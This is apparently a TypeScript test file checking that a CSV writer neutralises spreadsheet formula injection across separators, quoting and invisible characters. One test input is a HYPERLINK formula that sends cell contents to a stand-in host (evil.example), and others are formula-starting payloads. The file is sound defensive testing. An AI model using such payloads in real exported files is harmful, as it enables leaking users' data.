import { expect, test } from 'vitest';
import { csvLine } from './csv.ts';

test('quotes, separators and line breaks are preserved', () => {
  expect(csvLine(['a "b"', 'c,d', 'e\nf', ''], ',')).toBe('"a ""b""","c,d","e\nf",""\r\n');
});

test.each(['=1+1', '+55', '-2', '@SUM(A1)', '  =1', '\u200b=1', '\u2028=1', '＝1'])(
  '%j does not run in a spreadsheet',
  (text) => {
    expect(csvLine([text], ',')).toBe(`"'${text}"\r\n`);
  },
);

/**
 * Returns the cells as a spreadsheet with this list separator reads them: a quote counts only at a cell's
 * beginning, and text after the closing one up to the separator belongs to the cell.
 */
function cellsOf(text: string, separator: string): string[] {
  const cell = new RegExp(
    `(?:"((?:[^"]|"")*)")?([^${separator}\\r\\n]*)(?:[${separator}]|\\r?\\n|\\r|$)`,
    'y',
  );
  const cells: string[] = [];
  while (cell.lastIndex < text.length) {
    const [, quoted = '', rest = ''] = cell.exec(text) ?? [];
    cells.push(quoted.replaceAll('""', '"') + rest);
  }
  return cells;
}

/** Returns every text of up to `length` pieces. */
function sequences(pieces: readonly string[], length: number): string[] {
  if (length === 0) return [''];
  const shorter = sequences(pieces, length - 1);
  const longer = shorter.flatMap((before) => pieces.map((piece) => before + piece));
  return [...new Set([...shorter, ...longer])];
}

const separators = [',', ';', '\t'];
const startsFormula = /^[\s\p{Cf}"]*[=+\-@＝＋－＠]/u;

test.each([',', ';'] as const)(
  'nothing in a file with %j runs, whichever separator it is read with',
  (written) => {
    const texts = sequences(['x', ' ', '"', ...separators, '\r', '\n', '=1', '＠', '\u200b'], 4);
    expect(texts).toContain('x;=1');
    const file = texts.map((text) => csvLine([text, '', text], written)).join('');
    for (const separator of [...separators, separators.join('')]) {
      expect(cellsOf(file, separator).filter((cell) => startsFormula.test(cell))).toEqual([]);
    }
    const read = cellsOf(file, written).map((cell) => cell.replaceAll("'", ''));
    expect(read).toEqual(texts.flatMap((text) => [text, '', text]));
  },
);

test.each([
  ['Eva;=1+2', "Eva;'=1+2"],
  [
    'Ola\n=HYPERLINK("http://evil.example/?"&A1;"x")',
    'Ola\n\'=HYPERLINK("http://evil.example/?"&A1;"x")',
  ],
  ['a,"  @SUM(A1)"', `a,'"  @SUM(A1)"`],
  ['\t=1', "'\t'=1"],
])('%j begins no formula after a separator either', (text, safe) => {
  expect(cellsOf(csvLine([text, 'x'], ','), ',')).toEqual([safe, 'x']);
});

test('control characters are removed, and cannot hide a formula', () => {
  expect(
    csvLine(['\u0000=cmd', '\u001b\u200b\u0001+1', 'a\u001b[2J\u0007b\u007f\u009b31m'], ','),
  ).toBe('"\'=cmd","\'\u200b+1","a[2Jb31m"\r\n');
});

test('ordinary words are unchanged', () => {
  expect(csvLine(['Ana = Maria', '11987654321'], ',')).toBe('"Ana = Maria","11987654321"\r\n');
});
